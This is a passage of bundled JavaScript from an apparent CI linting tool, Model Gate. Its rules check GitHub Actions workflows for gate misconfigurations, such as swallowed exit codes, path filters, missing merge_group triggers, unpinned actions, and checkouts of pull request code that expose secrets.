    return written !== undefined && !['', 'false'].includes(bareExpression(written.text));
}
const continueOnError = {
    id: 'continue-on-error',
    about: '`continue-on-error` on the gate job, on the step that decides, or on a job that the gate needs. A failed step leaves its job green, and a failed job counts as `success` for the jobs that need it.',
    instead: 'No `continue-on-error` there. A gate that must not block yet says so in the policy: `severity: warn`.',
    find: inWorkflows((workflow, repository) => {
        const last = finalJobs(workflow, repository);
        const needed = new Set(last.flatMap((job) => neededBy(job, workflow)));
        return [
            ...workflow.jobs
                .filter((job) => last.includes(job))
                .flatMap((job) => jobThatContinues(job, 'does not fail the run')),
            ...workflow.jobs
                .filter((job) => needed.has(job) && !last.includes(job))
                .flatMap((job) => jobThatContinues(job, 'counts as a success for the gate that needs it')),
            ...workflow.jobs.flatMap(stepsThatContinue)
        ];
    }, usersOfModelGate)
};
function jobThatContinues({ id, continueOnError: written }, effect) {
    if (!continues(written))
        return [];
    return [
        {
            offset: written.offset,
            message: `a failure of job ${quoted(id)} ${effect}`,
            hint: 'Leave "continue-on-error" out'
        }
    ];
}
function stepsThatContinue({ steps }) {
    return steps.filter(decidesIn).flatMap(({ continueOnError: written }) => continues(written)
        ? [
            {
                offset: written.offset,
                message: 'the step that decides leaves the job green when it blocks',
                hint: 'Leave "continue-on-error" out; a gate that must not block yet says severity: warn in its policy'
            }
        ]
        : []);
}
const exitCodeLost = {
    id: 'exit-code-lost',
    about: '`|| true`, `|| exit 0`, `; exit 0`, `set +e`, a pipe or `&` after a command that decides, a trap that ends with 0, `$(...)` in another command, an exit code that is saved and not looked at, or more commands in PowerShell, the default on Windows. The step ends with another exit code than the gate, and the job is green.',
    instead: 'The command as the last of its step, alone on its line. Where something must follow: `status=0; model-gate run || status=$?`, then `exit $status` at the end.',
    find: inWorkflows((workflow) => workflow.jobs.flatMap((job) => lossesIn(job, workflow)), usersOfModelGate)
};
/** GitHub's default: on Windows that of PowerShell, which goes on after a program that fails. */
function usualShell({ runsOn }) {
    return runsOn.some((label) => /windows/i.test(label)) ? 'pwsh' : undefined;
}
function lossesIn(job, workflow) {
    return job.steps.flatMap(({ run, starts, shell }) => starts.flatMap((use) => {
        if (use.how !== 'command' || run === undefined || (use.part !== 'run' && use.part !== 'gate'))
            return [];
        const loss = lossOf(use.commands, use.index, shell ?? job.shell ?? workflow.shell ?? usualShell(job));
        if (loss === undefined)
            return [];
        return [
            {
                offset: offsetWithin(workflow.source, run, use.commands[use.index]?.offset ?? 0),
                message: `the exit code of "model-gate ${use.part}" is lost by ${loss}: the step is green whatever the verdict`,
                hint: 'Let it be the last command of its step, alone on its line'
            }
        ];
    }));
}

;// CONCATENATED MODULE: ./src/setup/rules/policies.ts






const policyNotFound = {
    id: 'policy-not-found',
    about: 'A step that asks for a policy which the repository does not have: `policy:` misspelt, moved, or left out where there is no `.github/model-gate.yml`. The step ends in an error on every pull request.',
    instead: 'The path of a policy from the root of the repository, or a quoted glob that matches some.',
    find: (repository) => {
        const { yamlFiles, policies } = repository;
        if (yamlFiles === undefined)
            return [];
        const there = [...yamlFiles, ...policies];
        const ofPullRequests = gatesAndCompanions(repository).filter(({ triggers }) => !triggers.has('workflow_call'));
        return inWorkflows((workflow) => stepsOf(workflow)
            .flatMap((step) => policiesNamedBy(step, workflow) ?? [])
            .filter((named) => !there.some((file) => standsFor(named, file)))
            .map((named) => missing(named, policies)), () => ofPullRequests)(repository);
    }
};
function missing({ path, offset }, policies) {
    const near = (0,documents/* nearest */.pA)(path, policies) ?? (policies.length === 1 ? policies[0] : undefined);
    const what = /[*?[{]/.test(path) ? `no file matches ${quoted(path)}` : `there is no ${quoted(path)}`;
    const asked = path === usualPolicy ? ` (the policy where "policy" is left out)` : '';
    return {
        offset,
        message: `${what}${asked}: this step ends in an error on every pull request`,
        hint: near === undefined ? 'Write the policy, or mend the input "policy"' : `Write policy: ${quoted(near).slice(1, -1)}`
    };
}
const unjudgedPolicy = {
    id: 'unjudged-policy',
    about: 'A policy beside a gate that asks for others: a file `model-gate.yml`, or one that `lint` was given. No job decides by it, and its model is merged unjudged.',
    instead: '`policy:` of the gate with one path a line, or a quoted glob: `models/*/model-gate.yml`.',
    find: (repository) => {
        const [gate] = gateWorkflows(repository);
        const asked = policiesThatDecide(repository);
        if (gate === undefined || asked === undefined || repository.ours === true)
            return [];
        return repository.policies
            .filter((policy) => !asked.some((named) => standsFor(named, policy)))
            .map((policy) => ({
            file: policy,
            line: 1,
            column: 1,
            message: 'no job decides by this policy: its model is merged unjudged',
            hint: `Name it under "policy" in ${quoted(gate.path)}, or delete it`
        }));
    }
};
/** What any job decides by; undefined where that is not known from the files. */
function policiesThatDecide(repository) {
    const workflows = usersOfModelGate(repository);
    const elsewhere = workflows.some(({ jobs }) => jobs.some(({ calls }) => calls !== undefined && !calls.text.startsWith('./')));
    const named = workflows.flatMap((workflow) => stepsOf(workflow)
        .filter(decidesIn)
        .map((step) => policiesNamedBy(step, workflow)));
    return elsewhere || named.includes(undefined) ? undefined : named.flatMap((each) => each ?? []);
}
function stepsOf({ jobs }) {
    return jobs.flatMap(({ steps }) => steps);
}

;// CONCATENATED MODULE: ./src/setup/rules/triggers.ts



/** Names that the protected branch usually has. */
const usualBranches = ['main', 'master', 'trunk', 'develop', 'development', 'dev', 'production', 'release', 'staging'];
/** Types without which a commit of a pull request, or the base that it is to be merged into, stays unjudged. GitHub's default lacks the last. */
const neededTypes = ['opened', 'synchronize', 'reopened', 'edited'];
const waits = 'the required check waits for ever ("Expected")';
function pullRequestTriggers({ triggers }) {
    return [...triggers].filter(([name]) => name === 'pull_request' || name === 'pull_request_target');
}
/** What each filter of each pull request trigger does wrong. */
function filtersOf(workflow, judge) {
    return pullRequestTriggers(workflow).flatMap(([, { filters }]) => filters?.kind === 'map'
        ? [...filters.entries].flatMap(([key, { keyOffset, value }]) => {
            const fault = judge(key, value);
            return fault === undefined ? [] : [{ offset: keyOffset, ...fault }];
        })
        : []);
}
const pathFilter = {
    id: 'path-filter',
    about: '`paths` or `paths-ignore` under the trigger of the gate. A pull request that touches none of the paths never starts the workflow, and its required check waits for ever.',
    instead: 'No path filter: the gate is to run on every pull request.',
    find: inWorkflows((workflow) => filtersOf(workflow, (key) => key === 'paths' || key === 'paths-ignore'
        ? {
            message: `"${key}" keeps the workflow from pull requests that touch other files: ${waits} on them`,
            hint: `Leave "${key}" out`
        }
        : undefined))
};
const branchFilter = {
    id: 'branch-filter',
    about: '`branches` or `branches-ignore` that leave out every usual name of a protected branch. They are held against the branch that a pull request is merged into, not against its own. Pull requests into others never start the workflow, and their required check waits for ever.',
    instead: '`branches: [main]`, with the branches whose rules require the check; or no filter at all.',
    find: inWorkflows((workflow) => filtersOf(workflow, (key, value) => {
        const patterns = textsOf(value).map(({ text }) => text);
        if ((key !== 'branches' && key !== 'branches-ignore') ||
            usualBranches.some((name) => lets(name, patterns, key))) {
            return undefined;
        }
        return {
            message: `"${key}" is held against the branch that is merged into, and leaves out ${usualBranches[0]} and every other usual one: ${waits}`,
            hint: 'Name the branches whose rules require the check: branches: [main]'
        };
    }))
};
/** Whether pull requests into a branch start the workflow. The last pattern that matches wins. */
function lets(branch, patterns, key) {
    if (key === 'branches-ignore')
        return !patterns.some((pattern) => matches(branch, pattern) === 'yes');
    return patterns.reduce((taken, pattern) => {
        const negated = pattern.startsWith('!');
        const match = matches(branch, negated ? pattern.slice(1) : pattern);
        return match === 'no' || (match === 'perhaps' && negated) ? taken : !negated;
    }, false);
}
/** Only stars are followed: what other marks mean is left open. */
function matches(branch, pattern) {
    if (/[?+[\]\\]|\$\{\{/.test(pattern))
        return 'perhaps';
    const [first = '', ...others] = pattern.split('*');
    if (others.length === 0)
        return branch === pattern ? 'yes' : 'no';
    const last = others.pop() ?? '';
    if (!branch.startsWith(first) || branch.length < first.length + last.length || !branch.endsWith(last))
        return 'no';
    let from = first.length;
    for (const part of others) {
        const found = branch.indexOf(part, from);
        if (found === -1)
            return 'no';
        from = found + part.length;
    }
    return from <= branch.length - last.length ? 'yes' : 'no';
}
const triggerTypes = {
    id: 'trigger-types',
    about: 'The trigger of the gate without `types`, or with `types` that lack `opened`, `synchronize`, `reopened` or `edited`. A commit that comes by one of the first three is not judged, and the required check waits for ever on it. By `edited`, which is no default, comes a change of the base branch: the green check that the policy of another branch gave stays.',
    instead: '`types: [opened, synchronize, reopened, edited]`, and what you need besides.',
    find: inWorkflows((workflow) => pullRequestTriggers(workflow).flatMap(([name, { offset, filters }]) => {
        const given = tree_entryOf(filters, 'types');
        const types = textsOf(given?.value).map(({ text }) => text);
        const missing = neededTypes.filter((type) => !types.includes(type));
        if (missing.length === 0 || types.some((type) => type.includes('${{')))
            return [];
        return [
            {
                offset: given?.keyOffset ?? offset,
                message: `${given === undefined ? `${quoted(name)} has no "types"` : `"types" lacks ${missing.map(quoted).join(', ')}`}: ${whatComesOf(given === undefined ? ['edited'] : missing)}`,
                hint: 'Write types: [opened, synchronize, reopened, edited], and the others that you need'
            }
        ];
    }))
};
function whatComesOf(missing) {
    return missing.some((type) => type !== 'edited')
        ? `a commit that comes so is not judged, and ${waits} on it`
        : 'a pull request that is changed to another base branch keeps the green check of the policy of the first';
}
const mergeQueue = {
    id: 'no-merge-group',
    about: 'A gate that `merge_group` does not start. In a merge queue the required check never reports, and the queue throws the pull request out when its time is over.',
    instead: '`merge_group:` beside `pull_request:`. It costs nothing where there is no queue.',
    find: inWorkflows(({ triggers, onOffset }) => triggers.has('merge_group')
        ? []
        : [
            {
                offset: onOffset,
                message: 'no merge_group trigger: in a merge queue the required check never reports, and every pull request is thrown out of it',
                hint: 'Add merge_group: under on:'
            }
        ])
};

;// CONCATENATED MODULE: ./src/setup/rules/unknown-input.ts





const unknownInput = {
    id: 'unknown-input',
    about: 'An input under `with` that an action of Model Gate does not have, mostly a misspelt one. GitHub warns and starts the action without it: what was meant by it is not done.',
    instead: 'The name as the page of the action gives it.',
    find: inWorkflows(({ jobs }) => jobs.flatMap(({ steps }) => steps.flatMap(unknown_input_faultsOf)), usersOfModelGate)
};
function unknown_input_faultsOf({ starts, inputs }) {
    const started = starts.find(({ how }) => how === 'action');
    const known = started && actionInputs[started.part];
    if (started === undefined || known === undefined)
        return [];
    return [...inputs]
        .filter(([name]) => !known.includes(name))
        .map(([name, { keyOffset }]) => {
        const near = (0,documents/* nearest */.pA)(name, known);
        const action = started.part === 'run' ? 'the root action' : `actions/${started.part}`;
        return {
            offset: keyOffset,
            message: `${quoted(name)} is no input of ${action}: GitHub warns and starts it without`,
            hint: near === undefined ? `It has ${[...known].sort().join(', ')}` : `Did you mean ${quoted(near)}?`
        };
    });
}

;// CONCATENATED MODULE: ./src/setup/rules/unpinned-action.ts




const unpinnedAction = {
    id: 'unpinned-action',
    about: 'An action, a reusable workflow or an image that is not named by its full commit, in a workflow that uses Model Gate. A tag can be moved: whoever takes over its repository runs code in your gate.',
    instead: '`uses: owner/name@<40 hexadecimal digits> # v1.2.3`. Model Gate itself may be named by its version, `@v1`.',
    find: inWorkflows(({ jobs }) => jobs
        .flatMap(({ calls, steps }) => [calls, ...steps.map(({ uses }) => uses)])
        .flatMap((uses) => (uses === undefined ? [] : unpinned_action_faultsOf(uses))), usersOfModelGate)
};
function unpinned_action_faultsOf({ text, offset }) {
    const reference = actionReference(text);
    const { path, ref, repository } = reference;
    if (path.startsWith('.') && repository === '')
        return [];
    if (path.startsWith('docker:') && repository === '') {
        return /^sha256:[0-9a-f]{64}$/.test(ref) ? [] : [fault(offset, text, 'Name the image by its digest: @sha256:...')];
    }
    if (/^([0-9a-f]{40}|[0-9a-f]{64})$/.test(ref))
        return [];
    if (isModelGate(reference)) {
        return /^v\d/.test(ref) ? [] : [fault(offset, text, 'Name a version, @v1, or a full commit')];
    }
    return [fault(offset, text, 'Name the full commit and the version behind it: @<40 hexadecimal digits> # v1.2.3')];
}
function fault(offset, text, hint) {
    return { offset, message: `${quoted(text)} can be moved to other code: who moves it runs code in this gate`, hint };
}

;// CONCATENATED MODULE: ./src/setup/rules/unreadable-workflow.ts
const unreadableWorkflow = {
    id: 'unreadable-workflow',
    about: 'A workflow that is no YAML, or holds what GitHub refuses: a key twice, a tag, an alias of nothing. GitHub does not start it, and a required check in it waits for ever.',
    instead: 'What the message says. Text that begins with `!` must be quoted: `if: "!cancelled()"`.',
    find: ({ unreadable }) => unreadable
};

;// CONCATENATED MODULE: ./src/setup/rules/untrusted-code.ts







/** Events that start the workflow of the default branch, with secrets and a token that writes, whoever opened the pull request. */
const privileged = ['pull_request_target', 'workflow_run', 'issue_comment', 'repository_dispatch', 'workflow_dispatch'];
function privilegedEvent({ triggers }) {
    return privileged.find((event) => triggers.has(event));
}
const candidateOnTarget = {
    id: 'pull-request-target',
    about: 'The candidate is evaluated on `pull_request_target`. The event gives secrets and a token that writes to code that a stranger wrote.',
    instead: '`pull_request` for the workflow that evaluates. It needs no secret and no token: the exit code is the gate, on forks too.',
    find: inWorkflows(({ triggers, jobs }) => triggers.has('pull_request_target')
        ? jobs.filter(runsCandidate).map(({ id, offset, steps }) => ({
            offset: steps.find(({ starts }) => starts.some(({ part }) => part === 'run' || part === 'evaluate'))?.offset ??
                offset,
            message: `job ${quoted(id)} starts the candidate on pull_request_target: a stranger's code gets the secrets and a token that writes`,
            hint: 'Evaluate on pull_request'
        }))
        : [])
};
const headCheckout = {
    id: 'head-checkout',
    about: 'The head of a pull request is checked out on `pull_request_target`, `workflow_run`, `issue_comment`, `repository_dispatch` or `workflow_dispatch`. Whatever is started from it (a build, a test, a hook of a package) has the secrets and a token that writes.',
    instead: 'No checkout of the head under these events: the gate reads what it needs through the API.',
    find: inWorkflows((workflow) => {
        const event = privilegedEvent(workflow);
        if (event === undefined)
            return [];
        return workflow.jobs.flatMap(({ steps }) => steps.flatMap((step) => headsTaken(step, event, workflow)));
    }, usersOfModelGate)
};
function headsTaken(step, event, { source }) {
    const fault = (offset) => ({
        offset,
        message: `the head of the pull request is checked out on ${event}: code of a stranger stands beside the secrets and a token that writes`,
        hint: 'Leave the checkout out, or evaluate on pull_request'
    });
    const { run } = step;
    const fetched = run === undefined ? -1 : run.text.search(/\bgh pr checkout\b|\bpull\/[^\s/]{1,80}\/(head|merge)\b/);
    if (run !== undefined && fetched !== -1)
        return [fault(offsetWithin(source, run, fetched))];
    if (!isCheckout(step))
        return [];
    return ['ref', 'repository', 'allow-unsafe-pr-checkout'].flatMap((name) => {
        const value = step.inputs.get(name)?.value;
        if (value?.kind !== 'text' || !namesHead(bareExpression(value.text), name))
            return [];
        return [fault(value.offset)];
    });
}
function namesHead(text, input) {
    if (input === 'allow-unsafe-pr-checkout')
        return text !== 'false' && text !== '';
    return /head|refs\/pull|merge_commit_sha|event\.number/.test(text);
}
const persistedCredentials = {
    id: 'persist-credentials',
    about: 'A checkout that keeps its token on disk, in a job that starts code of the pull request and whose token may write. That code finds the token there.',
    instead: '`persist-credentials: false` under `with:` of actions/checkout.',
    find: inWorkflows((workflow) => workflow.jobs.filter(runsCandidate).flatMap((job) => {
        const permissions = job.permissions ?? workflow.permissions;
        if (permissions !== undefined && writable(permissions).length === 0)
            return [];
        return job.steps
            .filter((step) => isCheckout(step) && keepsToken(step))
            .map(({ uses, offset }) => ({
            offset: uses?.offset ?? offset,
            message: `the checkout leaves the token of job ${quoted(job.id)} on disk, where the candidate's code finds it`,
            hint: 'Write under with: persist-credentials: false'
        }));
    }))
};
function keepsToken({ inputs }) {
    const value = inputs.get('persist-credentials')?.value;
    return value?.kind !== 'text' || value.text.toLowerCase() !== 'false';
}

;// CONCATENATED MODULE: ./src/setup/rules.ts

















/** Every rule, in the order of the documentation. */
const rules_rules = [
    unreadableWorkflow,
    noWorkflow,
    policyNotFound,
    unjudgedPolicy,
    unknownInput,
    nothingDecides,
    otherName,
    dynamicName,
    matrixName,
    reusableName,
    duplicateName,
    pathFilter,
    branchFilter,
    triggerTypes,
    anyBranch,
    mergeQueue,
    jobCondition,
    neededFailure,
    cancelledGate,
    stepCondition,
    continueOnError,
    exitCodeLost,
    needsNotPassed,
    missingPermissions,
    tooManyPermissions,
    candidateOnTarget,
    headCheckout,
    companionMeasures,
    companionCheckout,
    persistedCredentials,
    secretToken,
    localGate,
    gateInstalls,
    expressionInRun,
    unpinnedAction,
    codeOwner
];

;// CONCATENATED MODULE: ./src/setup/lint-workflows.ts




/**
 * What the workflows and the code owners of a repository let through, or stop for ever. Only workflows that use Model Gate are judged.
 *
 * @returns findings, by file and line; never throws, whatever the files hold
 */
function lintWorkflows(files) {
    const repository = readRepository(files);
    return rules_rules
        .flatMap(({ id, find }) => find(repository).map(({ advice, ...found }) => ({
        ...found,
        rule: id,
        kind: advice === true ? 'advice' : 'finding'
    })))
        .sort(byPlace);
}
function readRepository({ workflows: files, ...rest }) {
    const workflows = [];
    const unreadable = [];
    for (const file of files) {
        const { workflow, faults } = readWorkflow(file, rest.ours === true);
        if (workflow !== undefined)
            workflows.push(workflow);
        unreadable.push(...faults);
    }
    return { ...rest, workflows, unreadable };
}
function readWorkflow({ path, text }, ours) {
    const { root, faults, placeOf } = readTree(text);
    const unreadable = (offset, message) => ({
        file: path,
        ...placeOf(offset),
        message,
        hint: 'Mend it: a required check in it waits for ever'
    });
    if (root === undefined)
        return { faults: faults.map(({ offset, message }) => unreadable(offset, message)) };
    if (root.kind !== 'map')
        return {
            faults: [unreadable(root.offset, 'is no map with the keys "on" and "jobs": GitHub does not start this workflow')]
        };
    const workflow = workflowOf(root, { path, text, placeOf, ours });
    if (workflow === undefined)
        return {
            faults: [unreadable(root.offset, 'has more jobs, steps and scripts than any that runs, and is not judged')]
        };
    return { workflow, faults: [] };
}

;// CONCATENATED MODULE: ./src/setup/stale-waivers.ts

const stale_waivers_staleWaiver = {
    id: 'stale-waiver',
    about: 'A waiver that has ended, which counts no more, or that ends within 14 days. Advice where it has not ended yet: the exit code stays.',
    instead: 'Mend what it covers and take it out, or give it a new `until` in a pull request of its own.'
};
/** Waivers of a policy that have ended or soon will. @param today `YYYY-MM-DD`, UTC */
function staleWaivers({ waivers }, file, today) {
    return waivers.flatMap(({ check, rule, until, owner }, index) => {
        const days = (0,documents/* daysBetween */.YM)(today, until);
        if (days > documents/* WARNED_DAYS */.Eq)
            return [];
        const when = days < 0 ? `has ended on ${until} and counts no more` : `ends on ${until}`;
        return [
            {
                file,
                key: `waivers[${index}].until`,
                rule: stale_waivers_staleWaiver.id,
                kind: days < 0 ? 'finding' : 'advice',
                message: `the waiver of ${rule} for ${check} (${owner}) ${when}`,
                hint: 'Mend what it covers and take it out, or give it a new until in a pull request of its own'
            }
        ];
    });
}

;// CONCATENATED MODULE: ./src/setup/reference.ts



/** A workflow in which no rule finds anything. */
const sample = (/* unused pure expression or super */ null && (`name: model
on:
  pull_request:
    types: [opened, synchronize, reopened, edited]
  merge_group:
permissions: {}
jobs:
  evaluate:
    runs-on: ubuntu-latest
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
        with:
          persist-credentials: false
      - uses: OWNER/model-gate/actions/evaluate@v1
  model-gate:
    needs: [evaluate]
    if: \${{ always() }}
    runs-on: ubuntu-latest
    permissions:
      contents: read
      actions: read
      pull-requests: write
    steps:
      - uses: OWNER/model-gate/actions/gate@v1
        with:
          needs: \${{ toJSON(needs) }}
`));
const introduction = (/* unused pure expression or super */ null && (`# What lint finds

\`model-gate lint\` reads the policies, and \`.github/workflows\` and \`CODEOWNERS\` of the working directory, and says what GitHub would let through
or stop for ever. Each finding has a place, what is wrong, what GitHub makes of it, and what to write instead; the rule stands behind it in brackets:

\`\`\`text
.github/workflows/model.yml:18:9: job "model-gate" is skipped when the run is cancelled, and a skipped job passes a required check [skipped-when-cancelled]
  Write if: \${{ always() }}
\`\`\`

Only workflows that use Model Gate are judged: a step with \`uses: OWNER/model-gate\` or one of its \`actions/\`, a \`run:\` that starts
\`model-gate\`, a job that calls a workflow with either. Exit code 1 means that something was found, in a policy or elsewhere; 0 that nothing was;
2 that a flag is wrong. Advice changes no exit code.

What stands in the settings of the repository is not seen from here: that the check \`model-gate\` is required, that its expected source is GitHub
Actions, and that reviews from code owners are required.

## A workflow without findings

\`\`\`yaml
${sample}\`\`\`

## Rules`));
/** The page of the documentation on lint: what each rule finds and what to write instead. */
function lintReference() {
    const sections = [...rules, sliceThreshold, staleWaiver].map(({ id, about, instead }) => `### ${id}\n\n${about}\n\nInstead: ${instead}`);
    return [introduction, ...sections].join('\n\n');
}

;// CONCATENATED MODULE: ./src/setup/index.ts








/***/ })

};
